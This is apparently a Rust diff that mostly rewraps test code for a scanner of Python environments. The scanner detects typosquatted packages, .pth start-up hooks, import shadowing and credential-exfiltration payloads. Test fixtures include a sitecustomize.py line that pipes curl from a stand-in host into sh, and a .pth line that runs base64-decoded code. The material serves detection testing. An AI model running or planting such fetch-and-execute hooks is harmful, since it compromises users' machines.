@@ -120,7 +120,11 @@ fn scenario() -> Scenario {
         .installer("pip")
         .requested()
         .write();
-    fh.pth(&site, "torch_utilites_init.pth", "import torch_utilites._core\n");
+    fh.pth(
+        &site,
+        "torch_utilites_init.pth",
+        "import torch_utilites._core\n",
+    );
 
     // A fake `requests/` inside `update-requests`.
     fh.dist(&site, "update-requests", "1.0.0")
@@ -148,13 +152,24 @@ fn scenario() -> Scenario {
         .top_level(&["_distutils_hack", "setuptools", "pkg_resources"])
         .write();
     fh.dist(&site, "mypkg", "0.1.0")
-        .file("__editable__.mypkg-0.1.0.pth", "import __editable___mypkg_0_1_0_finder; __editable___mypkg_0_1_0_finder.install()\n")
-        .file("__editable___mypkg_0_1_0_finder.py", "def install():\n    pass\n")
+        .file(
+            "__editable__.mypkg-0.1.0.pth",
+            "import __editable___mypkg_0_1_0_finder; __editable___mypkg_0_1_0_finder.install()\n",
+        )
+        .file(
+            "__editable___mypkg_0_1_0_finder.py",
+            "def install():\n    pass\n",
+        )
         .write();
     fh.dist(&site, "huggingface-hub", "0.23.0")
-        .file("huggingface_hub/__init__.py", "from .constants import get_token\n")
+        .file(
+            "huggingface_hub/__init__.py",
+            "from .constants import get_token\n",
+        )
         .file("huggingface_hub/constants.py", HF_CONSTANTS)
-        .entry_points("[console_scripts]\nhuggingface-cli = huggingface_hub.commands.huggingface_cli:main\n")
+        .entry_points(
+            "[console_scripts]\nhuggingface-cli = huggingface_hub.commands.huggingface_cli:main\n",
+        )
         .write();
     fh.dist(&site, "pip", "24.0")
         .file("pip/__init__.py", "__version__ = '24.0'\n")
@@ -166,7 +181,10 @@ fn scenario() -> Scenario {
         "/home/alice/Downloads/torch_utilites-0.1.0.tar.gz",
         targz(&[
             ("torch_utilites-0.1.0/setup.py", HOOK_SETUP_PY),
-            ("torch_utilites-0.1.0/torch_utilites/__init__.py", "from . import _core\n"),
+            (
+                "torch_utilites-0.1.0/torch_utilites/__init__.py",
+                "from . import _core\n",
+            ),
             ("torch_utilites-0.1.0/torch_utilites/_core.py", PAYLOAD),
             ("torch_utilites-0.1.0/PKG-INFO", "Name: torch-utilites\n"),
         ]),
@@ -175,8 +193,14 @@ fn scenario() -> Scenario {
         "/home/alice/Downloads/plainpkg-1.0.tar.gz",
         targz(&[
             ("plainpkg-1.0/setup.py", PLAIN_SETUP_PY),
-            ("plainpkg-1.0/plainpkg/__init__.py", "def hello():\n    return 'hi'\n"),
-            ("plainpkg-1.0/tests/test_net.py", "import requests\nrequests.get('https://example.com')\n"),
+            (
+                "plainpkg-1.0/plainpkg/__init__.py",
+                "def hello():\n    return 'hi'\n",
+            ),
+            (
+                "plainpkg-1.0/tests/test_net.py",
+                "import requests\nrequests.get('https://example.com')\n",
+            ),
         ]),
     );
     let payload = evil.file("torch_utilites/_core.py");
@@ -200,7 +224,10 @@ fn rank(sev: &str) -> u8 {
 }
 
 fn max_sev<'a>(rows: impl Iterator<Item = &'a Row>) -> u8 {
-    rows.filter_map(|r| r.get("severity")).map(rank).max().unwrap_or(0)
+    rows.filter_map(|r| r.get("severity"))
+        .map(rank)
+        .max()
+        .unwrap_or(0)
 }
 
 fn at<'a>(rows: &'a [Row], path: &Path) -> Vec<&'a Row> {
@@ -222,7 +249,10 @@ fn seed_scenario_default_scan() {
     // The payload module: credential read + send is critical, driver
     // config writes are GPU tampering, all attributed to the typosquat.
     let payload = at(&rows, &s.payload);
-    assert!(has(&payload, "combo-credential-exfiltration"), "{payload:#?}");
+    assert!(
+        has(&payload, "combo-credential-exfiltration"),
+        "{payload:#?}"
+    );
     assert!(has(&payload, "gpu-driver-write"));
     assert!(has(&payload, "persist-modprobe"));
     assert_eq!(max_sev(payload.iter().copied()), 4);
@@ -234,7 +264,10 @@ fn seed_scenario_default_scan() {
 
     // The .pth that imports it, owned by no RECORD: start-up hook, ranked high.
     let pth = at(&rows, &s.site.join("torch_utilites_init.pth"));
-    let hook = pth.iter().find(|r| r.get("rule_id") == Some("pth-exec")).expect("pth row");
+    let hook = pth
+        .iter()
+        .find(|r| r.get("rule_id") == Some("pth-exec"))
+        .expect("pth row");
     assert_eq!(hook.get("severity"), Some("high"));
     assert_eq!(hook.get("category"), Some("startup"));
 
@@ -257,7 +290,9 @@ fn seed_scenario_default_scan() {
         .iter()
         .filter(|r| r.get("rule_id") == Some("import-name-shadowing"))
         .collect();
-    assert!(hijack.iter().any(|r| r.get("package") == Some("update-requests") && r.get("severity") == Some("high")));
+    assert!(hijack
+        .iter()
+        .any(|r| r.get("package") == Some("update-requests") && r.get("severity") == Some("high")));
 
     // Benign look-alikes stay low: setuptools' pth, the editable install,
     // huggingface_hub reading its token, pip's own console scripts.
@@ -266,15 +301,28 @@ fn seed_scenario_default_scan() {
     assert_eq!(setuptools_pth[0].get("rule_id"), Some("pth-known-benign"));
     assert_eq!(setuptools_pth[0].get("severity"), Some("info"));
     let editable = at(&rows, &s.site.join("__editable__.mypkg-0.1.0.pth"));
-    assert!(editable.iter().all(|r| r.get("severity") == Some("info")), "{editable:#?}");
+    assert!(
+        editable.iter().all(|r| r.get("severity") == Some("info")),
+        "{editable:#?}"
+    );
     let hf = at(&rows, &s.site.join("huggingface_hub/constants.py"));
     assert!(max_sev(hf.iter().copied()) < 3, "{hf:#?}");
-    assert!(!rows.iter().any(|r| r.get("package") == Some("pip") && rank(r.get("severity").unwrap_or("")) >= 3));
-    assert!(!rows.iter().any(|r| r.get("package") == Some("huggingface-hub") && rank(r.get("severity").unwrap_or("")) >= 3));
+    assert!(!rows
+        .iter()
+        .any(|r| r.get("package") == Some("pip") && rank(r.get("severity").unwrap_or("")) >= 3));
+    assert!(!rows
+        .iter()
+        .any(|r| r.get("package") == Some("huggingface-hub")
+            && rank(r.get("severity").unwrap_or("")) >= 3));
 
     // Never a secret value in evidence.
     for r in &rows {
-        assert!(!r.get("evidence").unwrap_or("").contains("AKIAIOSFODNN7EXAMPLE"), "{r:?}");
+        assert!(
+            !r.get("evidence")
+                .unwrap_or("")
+                .contains("AKIAIOSFODNN7EXAMPLE"),
+            "{r:?}"
+        );
     }
 }
 
@@ -285,7 +333,7 @@ fn owned_pth_of_a_benign_name_with_an_extra_line_is_not_benign() {
     fh.dist(&site, "setuptools", "69.0.0")
         .file(
             "distutils-precedence.pth",
-            &format!("{SETUPTOOLS_PTH}import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"),
+            format!("{SETUPTOOLS_PTH}import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"),
         )
         .write();
     let t = PythonInstallFindings::new(Arc::new(fh.host()));
@@ -312,7 +360,10 @@ fn setuptools_pth_not_owned_by_setuptools_is_not_benign() {
 fn unowned_sitecustomize_is_reported() {
     let fh = FakeHost::new();
     let site = fh.venv("/opt/venv", "3.11", false);
-    fh.write(site.join("sitecustomize.py"), "import os\nos.system('curl -s https://payload.invalid/a | sh')\n");
+    fh.write(
+        site.join("sitecustomize.py"),
+        "import os\nos.system('curl -s https://payload.invalid/a | sh')\n",
+    );
     let rows = PythonInstallFindings::new(Arc::new(fh.host()))
         .generate(&QueryContext::all())
         .unwrap();
@@ -356,11 +407,16 @@ fn on_demand_source_tree_and_single_file() {
     let rows = t
         .generate(&QueryContext::all().with("path", Operator::Equals, "/src/evil"))
         .unwrap();
-    assert!(rows.iter().any(|r| r.get("member") == Some("setup.py") && r.get("severity") == Some("critical")));
+    assert!(rows
+        .iter()
+        .any(|r| r.get("member") == Some("setup.py") && r.get("severity") == Some("critical")));
     let one = t
         .generate(&QueryContext::all().with("path", Operator::Equals, s.payload.to_str().unwrap()))
         .unwrap();
-    assert!(has(&one.iter().collect::<Vec<_>>(), "combo-credential-exfiltration"));
+    assert!(has(
+        &one.iter().collect::<Vec<_>>(),
+        "combo-credential-exfiltration"
+    ));
 }
 
 #[test]
@@ -373,7 +429,11 @@ fn environment_constraint_scans_only_that_environment() {
         .generate(&QueryContext::all().with("environment", Operator::Equals, "/opt/other"))
         .unwrap();
     assert!(!rows.is_empty());
-    assert!(rows.iter().all(|r| r.get("environment") == Some("/opt/other")), "{rows:#?}");
+    assert!(
+        rows.iter()
+            .all(|r| r.get("environment") == Some("/opt/other")),
+        "{rows:#?}"
+    );
 }
 
 #[test]
@@ -389,5 +449,7 @@ fn repeated_query_uses_the_cache_and_sees_changes() {
     // Defang the payload: the next query sees the new file version.
     s.fh.modify(&s.payload, "VALUE = 1\n");
     let third = t.generate(&QueryContext::all()).unwrap();
-    assert!(at(&third, &s.payload).iter().all(|r| r.get("rule_id") == Some("record-hash-mismatch")));
+    assert!(at(&third, &s.payload)
+        .iter()
+        .all(|r| r.get("rule_id") == Some("record-hash-mismatch")));
 }
